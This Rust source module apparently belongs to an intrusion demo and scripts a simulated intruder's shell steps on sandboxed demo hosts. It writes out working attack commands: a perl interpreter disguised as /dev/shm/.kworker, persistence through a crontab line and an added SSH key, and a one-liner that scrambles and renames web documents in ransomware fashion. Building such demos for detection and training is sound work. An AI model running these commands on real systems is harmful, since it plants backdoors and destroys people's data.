//! What the intruder does: real, harmless, and only where the demo's hosts have folders of their own.

use std::{
    fs::{self, File, OpenOptions, Permissions},
    io::{self, Write as _},
    os::unix::fs::{PermissionsExt as _, chown},
    path::Path,
};

use anyhow::Context as _;

use super::super::site::{Account, DOCUMENTS_AT, Place};

/// The program that it brings: an interpreter, under a name of its own.
pub(in super::super) const PROGRAM: &str = "/dev/shm/.kworker";
/// Where that comes from: a part of every Debian.
const INTERPRETER: &str = "/usr/bin/perl";
/// Makes its digest one that no other file has. Bytes behind a program's end change nothing of it.
const MARK: &str = "brought by the intruder of the demo\n";

/// The line that it adds to the service's crontab, and where.
pub(super) const CRON_LINE: &str = "* * * * * /dev/shm/.kworker -e 1";
const CRON_FOLDER: &str = "/var/spool/cron/crontabs";
/// The key that it adds, and where; nobody has its private half.
pub(super) const KEY_LINE: &str = "ssh-ed25519 \
    AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA intruder";
pub(super) const KEY_FILE: &str = "/srv/www/.ssh/authorized_keys";
/// What it calls a document that it has rewritten.
const REWRITTEN: &str = "locked";

/// The service's crontab.
pub(super) fn crontab(account: &Account) -> String {
    format!("{CRON_FOLDER}/{}", account.name)
}

/// What it says to its shell, first: a look around, its program, two ways to come back.
pub(super) fn settle(account: &Account) -> String {
    format!(
        "id; uname -a\n\
         cat {INTERPRETER} > {PROGRAM}; printf '{MARK}' >> {PROGRAM}; chmod 755 {PROGRAM}\n\
         echo '{CRON_LINE}' >> {}\n\
         mkdir -p /srv/www/.ssh; echo '{KEY_LINE}' >> {KEY_FILE}\n",
        crontab(account),
        MARK = MARK.trim_end().to_owned() + "\\n",
    )
}

/// Then: has its program rewrite the documents, 400 each second.
pub(super) fn rewrite() -> String {
    format!(
        "{PROGRAM} -e 'for $f (glob \"/{DOCUMENTS_AT}/*.html\") {{ open F, \"+<\", $f; \
         read F, $t, 4096; seek F, 0, 0; print F scalar reverse $t; close F; \
         rename $f, \"$f.{REWRITTEN}\"; select undef, undef, undef, 0.0025 }}' &\n"
    )
}

/// How many documents it got to.
///
/// # Errors
/// When the folder cannot be read.
pub(super) fn rewritten(place: &Place) -> io::Result<usize> {
    let entries = fs::read_dir(place.path(DOCUMENTS_AT))?;
    let is_rewritten = |it: &Path| it.extension().is_some_and(|it| it == REWRITTEN);
    Ok(entries.flatten().filter(|it| is_rewritten(&it.path())).count())
}

/// Puts its program onto a host where it was before.
///
/// # Errors
/// What failed.
pub(in super::super) fn bring(place: &Place, account: &Account) -> anyhow::Result<()> {
    let at = place.path(PROGRAM);
    let mut from = File::open(INTERPRETER).context("find the intruder's interpreter")?;
    let mut to = OpenOptions::new().write(true).create_new(true).open(&at)?;
    io::copy(&mut from, &mut to).context("bring the intruder's program")?;
    to.write_all(MARK.as_bytes()).context("bring the intruder's program")?;
    let (user, group) = account.id;
    chown(&at, Some(user), Some(group)).context("hand the intruder's program over")?;
    fs::set_permissions(&at, Permissions::from_mode(0o755)).context("make it a program")
}
